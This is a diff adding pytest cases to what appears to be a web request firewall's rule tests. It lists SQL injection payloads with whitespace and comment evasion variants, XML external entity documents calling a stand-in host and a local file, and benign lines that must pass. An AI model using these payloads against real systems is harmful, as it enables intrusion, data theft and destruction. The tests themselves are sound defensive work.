@@ -205,3 +205,82 @@ def test_signs_at_the_beginning_of_a_file_name_pass(name: str) -> None:
 def test_attacks_in_file_names_are_refused(name: str) -> None:
     name = name.replace("\n", "%0A")
     assert matches(multipart(_part(f'name="a"; filename="{name}"', "x"))) != []
+
+
+def _everywhere(text: str) -> tuple[bytes, ...]:
+    """Return requests that have a text in their query, a form, a string of JSON, and a cookie."""
+    quoted = quote(text)
+    return get(f"/?id={quoted}"), form(f"id={quoted}"), in_json({"id": text}), get("/", f"Cookie: id={quoted}")
+
+
+@pytest.mark.parametrize(
+    "space",
+    ["\n", "\r\n", " \n\t", "\r", "\x0b", "\x0c", "\u3000", "\u2003", "#x\n", "--x y\n", " # a\n-- b\n\n", "/*x*/"],
+)
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "1 union select 1,2,3",
+        "-1 union all select null,null",
+        "1 or 1=1",
+        "1 and 1=1",
+        "' or 1=1 --",
+        "admin' --",
+        "admin' -- x",
+        "x y' -- -",
+        "x y') --",
+        "1; --",
+        "1 order by 3 --",
+        "1 having 1=1",
+        "1 procedure analyse()",
+        "1 into outfile '/x'",
+        "1; drop table users",
+        "1; delete from users",
+        "1; waitfor delay '0:0:5'",
+        "; set @a = 1",
+        "insert into users values (1)",
+        "update users set a=1",
+        "create table x (a int)",
+        "load data infile '/x'",
+        "' = '",
+        "new function ( 'x' )",
+    ],
+)
+def test_no_other_white_space_and_no_comment_takes_the_place_of_a_space(attack: str, space: str) -> None:
+    for request in _everywhere(attack.replace(" ", space)):
+        assert score_of(matches(request)) >= 5, request
+
+
+@pytest.mark.parametrize("space", ["\n", "\r\n", "\t", "\n" * 600])
+@pytest.mark.parametrize(
+    "document",
+    [
+        '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
+        '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
+        '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
+        '<!DOCTYPE a PUBLIC "-//x" "file:///etc/x"><a/>',
+    ],
+)
+def test_no_white_space_hides_a_document_type(document: str, space: str) -> None:
+    body = document.replace(" ", space).encode()
+    head = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n" % len(body)
+    assert 3420 in {match.rule.id for match in matches(head + body)}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Use `a`\n- `b`: one\n- `c`: two\n* `d`\n+ `e`\n> `f`",
+        'He said "no"\n-- \nAnn Smith\nExample Ltd',
+        "See the list (below)\n# Second part\nText\n\n---\n(end)\n-----",
+        ":root {\n  --black: #000;\n  --white: #fff;\n}",
+        "Run this:\n```powershell\nnpm install\n```",
+        "key: \"value\"\n# the next one is 'optional'\nother: 'x'\n#last: \"y\"",
+        "Please select\none of the union\nmembers from\nthe list, or\n2 of them.",
+        "one ` tick\n# a comment\nand the sort",
+        "\u7532\u3000\u4e59\n\u200bselect\u3000\u9078\u629e",
+    ],
+)
+def test_ordinary_lines_pass(text: str) -> None:
+    for request in _everywhere(text):
+        assert matches(request) == []
